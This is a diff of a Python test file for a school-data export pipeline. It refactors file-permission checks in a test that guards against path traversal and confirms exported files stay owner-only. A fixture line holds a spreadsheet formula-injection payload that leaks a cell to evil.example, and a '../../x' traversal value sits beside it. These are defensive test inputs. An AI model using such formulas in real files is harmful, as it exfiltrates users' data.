@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import errno
 import os
-import stat
 import threading
 import time
 import zipfile
@@ -20,6 +19,7 @@ from python_calamine import CalamineWorkbook
 from skolon_pipeline.exports import xlsx
 from skolon_pipeline.exports.validation_file import write_validation_files
 from skolon_pipeline.files import OutsideFolder, safe_path, slug
+from skolon_pipeline_tests.modes import mode, not_owner_only
 from skolon_pipeline_tests.registry import Registry
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Klicka här")'
@@ -60,16 +60,12 @@ def hostile_night(run_registry):
     return run_registry(_hostile_registry())
 
 
-def _mode(path: Path) -> int:
-    return stat.S_IMODE(path.stat().st_mode)
-
-
 def test_a_school_unit_code_never_names_a_path(hostile_night, tmp_path):
     export_dir = tmp_path / "out" / "exports"
     export_dir.mkdir(parents=True)
     os.chmod(export_dir, 0o755)
     os.chmod(tmp_path / "out", 0o751)
-    before = {p: _mode(p) for p in (tmp_path, tmp_path / "out", export_dir)}
+    before = {p: mode(p) for p in (tmp_path, tmp_path / "out", export_dir)}
     outside_before = set(tmp_path.rglob("*")) - set(export_dir.rglob("*"))
 
     night, [written] = write_validation_files(hostile_night.warehouse, export_dir, school="../../x")
@@ -79,14 +75,14 @@ def test_a_school_unit_code_never_names_a_path(hostile_night, tmp_path):
     assert written.xlsx.name == f"valideringsfil_evil_x_{night.isoformat()}.xlsx"
     # Nothing was written outside the export folder, and no folder that existed changed its mode.
     assert set(tmp_path.rglob("*")) - set(export_dir.rglob("*")) == outside_before
-    assert {p: _mode(p) for p in before} == before
+    assert {p: mode(p) for p in before} == before
     # What the export created is owner-only.
-    assert {_mode(p) for p in export_dir.rglob("*")} == {0o700, 0o600}
+    assert not_owner_only(export_dir.rglob("*")) == {}
 
     # The whole night (every authority) as well.
     _, files = write_validation_files(hostile_night.warehouse, export_dir)
     assert [f.folder for f in files] == [export_dir / night.isoformat() / "evil"]
-    assert {p: _mode(p) for p in before} == before
+    assert {p: mode(p) for p in before} == before
 
 
 def _csv_cells(path: Path) -> list[str]:
